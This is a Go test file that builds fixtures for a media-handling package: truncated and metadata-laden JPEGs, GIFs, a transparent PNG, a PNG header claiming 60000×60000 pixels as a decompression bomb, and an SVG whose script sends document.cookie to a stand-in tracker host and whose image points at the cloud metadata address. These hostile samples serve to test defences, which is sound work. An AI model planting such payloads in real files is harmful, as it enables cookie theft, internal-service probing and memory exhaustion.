package media

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"flag"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"os"
	"path/filepath"
	"testing"

	"github.com/herald-news/herald/internal/media/mediatest"
)

var update = flag.Bool("update", false, "rewrite the fixtures in testdata that the tests make")

// The fixtures in testdata are written by TestWriteFixtures from the
// functions below, except the two WebP files, which are copied from
// golang.org/x/image's testdata (BSD licence, as Go), and
// progressive.jpg, which is a 300×200 mediatest.Photo (seed 14) made
// progressive by libjpeg-turbo's jpegtran -progressive: Go encodes
// neither WebP nor progressive JPEG.
func madeFixtures() map[string][]byte {
	photo := mediatest.JPEG(mediatest.Photo(300, 200, 1), 85)
	return map[string][]byte{
		"exif6-gps.jpg":   mediatest.WithMetadata(photo, 6),
		"truncated.jpg":   photo[:len(photo)/2],
		"huge-header.png": pngWithHeader(60000, 60000),
		"drawing.svg":     []byte(svgDrawing),
		"error-page.html": []byte(errorPage),
		"pixel.gif":       encodeGIF(1, 1, 1),
		"animated.gif":    encodeGIF(160, 120, 3),
		"transparent.png": mediatest.PNG(transparent(200, 150)),
	}
}

func TestWriteFixtures(t *testing.T) {
	if !*update {
		t.Skip("run with -update to rewrite the fixtures")
	}
	for name, b := range madeFixtures() {
		if err := os.WriteFile(filepath.Join("testdata", name), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func fixture(tb testing.TB, name string) []byte {
	tb.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		tb.Fatal(err)
	}
	return b
}

const svgDrawing = `<?xml version="1.0" encoding="UTF-8"?>
<!-- A drawing that would run a script and fetch an internal address if it were served or rasterised naively. -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="300">
  <script>fetch("https://tracker.example/?c=" + document.cookie)</script>
  <image xlink:href="http://169.254.169.254/latest/meta-data/" width="400" height="300"/>
  <rect width="400" height="300" fill="#336"/>
</svg>
`

const errorPage = `<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>404 Not Found</title></head>
<body><h1>Not Found</h1><p>The requested URL was not found on this server.</p>
<svg width="16" height="16"><circle r="8" cx="8" cy="8"/></svg></body>
</html>
`

// pngWithHeader returns a small, valid-looking PNG whose IHDR claims w×h
// RGBA pixels: a decompression bomb's header.
func pngWithHeader(w, h uint32) []byte {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	chunk := func(typ string, data []byte) {
		_ = binary.Write(&b, binary.BigEndian, uint32(len(data))) // a bytes.Buffer does not fail
		b.WriteString(typ)
		b.Write(data)
		_ = binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(append([]byte(typ), data...)))
	}
	ihdr := binary.BigEndian.AppendUint32(nil, w)
	ihdr = binary.BigEndian.AppendUint32(ihdr, h)
	ihdr = append(ihdr, 8, 6, 0, 0, 0)
	chunk("IHDR", ihdr)
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	_, _ = zw.Write(make([]byte, 4096)) // into a bytes.Buffer
	_ = zw.Close()
	chunk("IDAT", z.Bytes())
	chunk("IEND", nil)
	return b.Bytes()
}

// encodeGIF returns a w×h GIF of n frames, each filling the screen with
// a colour of its own (red first).
func encodeGIF(w, h, n int) []byte {
	palette := color.Palette{color.RGBA{255, 0, 0, 255}, color.RGBA{0, 0, 255, 255}, color.RGBA{0, 255, 0, 255}}
	g := &gif.GIF{}
	for i := 0; i < n; i++ {
		m := image.NewPaletted(image.Rect(0, 0, w, h), palette)
		for j := range m.Pix {
			m.Pix[j] = uint8(i % len(palette))
		}
		g.Image = append(g.Image, m)
		g.Delay = append(g.Delay, 10)
	}
	var b bytes.Buffer
	if err := gif.EncodeAll(&b, g); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// manyFrameGIF returns a 200×200 GIF of n one-pixel frames: an
// animation whose size is all in its frame count.
func manyFrameGIF(n int) []byte {
	palette := color.Palette{color.Black, color.White}
	g := &gif.GIF{Config: image.Config{ColorModel: palette, Width: 200, Height: 200}}
	for i := 0; i < n; i++ {
		g.Image = append(g.Image, image.NewPaletted(image.Rect(i%200, 0, i%200+1, 1), palette))
		g.Delay = append(g.Delay, 1)
	}
	var b bytes.Buffer
	if err := gif.EncodeAll(&b, g); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// transparent returns a w×h picture, transparent but for an opaque disc
// and a half-transparent band.
func transparent(w, h int) *image.NRGBA {
	m := image.NewNRGBA(image.Rect(0, 0, w, h))
	for y := 0; y < h; y++ {
		for x := 0; x < w; x++ {
			dx, dy := x-w/2, y-h/2
			switch {
			case dx*dx+dy*dy < (h/3)*(h/3):
				m.SetNRGBA(x, y, color.NRGBA{200, 30, 30, 255})
			case y < h/5:
				m.SetNRGBA(x, y, color.NRGBA{30, 30, 200, 128})
			}
		}
	}
	return m
}
